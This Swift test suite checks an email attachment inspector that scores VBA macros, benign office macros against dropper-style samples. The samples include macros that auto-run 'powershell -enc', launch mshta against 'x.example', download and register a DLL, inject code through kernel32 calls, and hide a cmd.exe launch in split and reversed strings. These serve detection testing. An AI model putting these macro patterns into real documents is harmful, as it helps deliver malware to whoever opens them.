import MailTestSupport
import MailModel
import Testing

@testable import AttachmentInspection

@Suite struct VBAVerdictTests {
  private func inspect(_ modules: [(name: String, source: String)]) -> AttachmentVerdict {
    let workbook = VBABuilder.streams(modules, below: "_VBA_PROJECT_CUR/")
    return AttachmentInspector().inspect(
      CompoundFileBuilder([("Workbook", BIFFBuilder(kind: 0).build())] + workbook).build())
  }

  @Test func digestsAreThoseOfTheSource() {
    let verdict = inspect([
      ("ThisWorkbook", "Private Sub Workbook_Open()\r\nEnd Sub\r\n"), ("Module1", "Sub A()\r\nEnd Sub\r\n"),
    ])
    #expect(verdict.type == .oleXls)
    #expect(verdict.vba?.modules.map(\.name) == ["ThisWorkbook", "Module1"])
    #expect(verdict.vba?.modules.first?.autoexec == ["Workbook_Open"])
    #expect(
      verdict.vba?.modules.last?.digest
        == ContentDigest(of: VBABuilder.attributes("Module1") + "Sub A()\r\nEnd Sub\r\n"))
  }

  @Test(arguments: [
    // Macros of an office: none of them may come near an alarm.
    ("Private Sub Workbook_Open()\nSheets(1).Range(\"A1\").Font.Bold = True\nEnd Sub", Level.info...Level.low),
    (
      "Private Sub Workbook_Open()\nApplication.ScreenUpdating = False\nCall Totals\nEnd Sub\nSub Totals()\nDim f As Integer\nf = FreeFile\nOpen ThisWorkbook.Path & \"\\log.txt\" For Output As #f\nPrint #f, Now\nClose #f\nThisWorkbook.SaveAs \"x\"\nEnd Sub",
      Level.info...Level.low
    ),
    ("Sub Button1_Click()\nShell \"explorer.exe C:\\Reports\"\nEnd Sub", Level.info...Level.low),
    (
      "Private Sub Workbook_Open()\nRange(\"A1\") = Chr(10) & Chr(13)\nEnd Sub\nSub Mail()\nSet o = CreateObject(\"Outlook.Application\")\nEnd Sub",
      Level.info...Level.low
    ),
    (
      "Private Sub Workbook_Open()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://rates.example/eur\", False\nh.send\nRange(\"B2\") = h.responseText\nEnd Sub",
      Level.info...Level.low
    ),
    // What droppers do.
    ("Sub AutoOpen()\nShell \"powershell -enc AAAA\"\nEnd Sub", Level.high...Level.critical),
    (
      "Sub Document_Open()\nRun1\nEnd Sub\nSub Run1()\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"mshta http://x.example/a.hta\"\nEnd Sub",
      Level.high...Level.critical
    ),
    (
      "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\nSub Auto_Open()\nURLDownloadToFile 0, \"http://x.example/a.dll\", p, 0, 0\nShell \"regsvr32 \" & p\nEnd Sub",
      Level.critical...Level.critical
    ),
    (
      "Private Declare Function VirtualAlloc Lib \"kernel32\" (ByVal a As Long) As Long\nPrivate Declare Function CreateThread Lib \"kernel32\" (ByVal a As Long) As Long\nPrivate Declare Sub RtlMoveMemory Lib \"kernel32\" (ByVal a As Long)\nSub Workbook_Open()\nx = VirtualAlloc(0)\nRtlMoveMemory x\nCreateThread x\nEnd Sub",
      Level.high...Level.critical
    ),
    (
      "Sub AutoOpen()\nSet s = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\ns.Run StrReverse(\"exe.dmc\")\nEnd Sub",
      Level.high...Level.critical
    ),
  ])
  func conjunctionsDecideAndNotWords(source: String, levels: ClosedRange<Level>) {
    let verdict = inspect([("ThisWorkbook", source.split(separator: "\n").joined(separator: "\r\n"))])
    #expect(levels.contains(verdict.level), "\(verdict.score) \(verdict.techniques.map(\.id))")
  }

  @Test func whatNothingStartsIsNotReached() {
    let verdict = inspect([
      ("ThisWorkbook", "Sub Workbook_Open()\r\nRange(\"A1\") = 1\r\nEnd Sub\r\n"),
      ("Module1", "Sub Export()\r\nShell \"explorer.exe\"\r\nEnd Sub\r\n"),
    ])
    #expect(!verdict.techniques.contains { $0.id == "vba-autoexec-process" })
    #expect(verdict.level < .medium)
  }

  @Test func aProjectUnderAnyNameInAPackageIsFound() {
    let project = VBABuilder.project([("Module1", "Sub A()\r\nEnd Sub\r\n")])
    let bytes = PackageBuilder.package(
      main: "word/document.xml", type: PackageBuilder.wordType, rels: [("r1", "vbaProject", "picture7.jpg", nil)],
      parts: [("word/picture7.jpg", project)])
    let verdict = AttachmentInspector().inspect(bytes)
    #expect(verdict.type == .ooxmlDocx)
    #expect(verdict.vba?.modules.count == 1)
    #expect(verdict.children.map(\.name) == ["word/picture7.jpg"])
  }

  @Test func sourceThatNoDirectoryListsIsFound() {
    let source = VBABuilder.compressed(Array("Attribute VB_Name = \"X\"\r\nSub A()\r\nEnd Sub\r\n".utf8))
    let verdict = AttachmentInspector().inspect(
      CompoundFileBuilder([
        ("WordDocument", [0xEC, 0xA5]), ("Macros/VBA/_VBA_PROJECT", [0xCC, 0x61]),
        ("Macros/VBA/X", [1, 2, 3] + source),
      ])
      .build())
    #expect(verdict.vba?.modules.map(\.name) == ["X"])
    #expect(verdict.techniques.contains { $0.id == "vba-orphan-module" })
  }
}

@Suite struct VBASourceTests {
  private func inspect(module: [UInt8]) -> AttachmentVerdict {
    AttachmentInspector().inspect(
      CompoundFileBuilder([
        ("WordDocument", [0xEC, 0xA5]), ("Macros/VBA/dir", VBABuilder.directory(["M"], offset: 2_048)),
        ("Macros/VBA/M", module),
      ]).build())
  }

  @Test func compiledTextThatTheSourceHasNot() {
    var compiled = Array("xx powershell -enc".utf8)
    while compiled.count < 2_048 { compiled.append(0) }
    let verdict = inspect(module: compiled + VBABuilder.compressed(Array("Sub A()\r\nEnd Sub\r\n".utf8)))
    #expect(verdict.vba?.modules.count == 1)
    #expect(verdict.techniques.contains { $0.id == "vba-source-removed" })
  }

  @Test func aModuleWithoutSource() {
    let verdict = inspect(module: [UInt8](repeating: 3, count: 3_000))
    #expect(verdict.vba == nil)
    #expect(verdict.techniques.map(\.id) == ["vba-source-removed"])
  }
}
